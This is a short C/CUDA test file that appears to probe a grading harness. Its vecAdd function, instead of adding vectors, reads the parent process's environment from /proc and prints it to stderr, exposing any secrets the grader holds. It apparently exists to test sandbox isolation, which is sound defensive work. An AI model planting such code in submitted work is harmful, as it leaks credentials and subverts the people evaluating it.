// Hostile: reads its parent's environment and command line from /proc (the grader's,
// when nothing is in between) into the report.
#include "common.cuh"
#include <unistd.h>

void vecAdd(const float *A, const float *B, float *C, int n)
{
    char path[64], buf[65536];
    snprintf(path, sizeof(path), "/proc/%d/environ", (int)getppid());
    FILE *f = fopen(path, "rb");
    if (!f)
        HOSTILE_FAIL("cannot read %s: %s", path, strerror(errno));
    size_t k = fread(buf, 1, sizeof(buf) - 1, f);
    fclose(f);
    for (size_t i = 0; i < k; i++)
        if (!buf[i])
            buf[i] = ' ';
    buf[k] = '\0';
    if (!k)
        HOSTILE_FAIL("%s is empty", path);
    fprintf(stderr, "parent's environment: %s\n", buf);
    exit(3);
}
